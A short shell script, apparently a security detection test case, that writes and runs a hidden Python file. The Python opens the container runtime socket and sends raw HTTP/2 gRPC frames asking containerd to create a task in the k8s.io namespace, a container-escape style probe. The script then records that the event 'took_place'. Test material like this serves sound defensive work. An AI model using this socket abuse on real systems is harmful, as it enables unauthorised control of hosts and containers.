#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.grpc.py <<'END'
import socket, struct
def frame(kind, flags, stream, body): return struct.pack("!I", len(body))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + body
def word(k, v): return b"\0" + bytes([len(k)]) + k + bytes([len(v)]) + v
s = socket.socket(socket.AF_UNIX); s.settimeout(3); s.connect("/run/docker.sock")
head = b"\x83\x86" + word(b":path", b"/containerd.services.tasks.v1.Tasks/Create") + word(b":authority", b"localhost") + word(b"content-type", b"application/grpc") + word(b"containerd-namespace", b"k8s.io")
s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + frame(1, 4, 1, head) + frame(0, 1, 1, b"\0\0\0\0\x06\x0a\x04node"))
assert s.recv(100)
END
python3 /tmp/.grpc.py
took_place
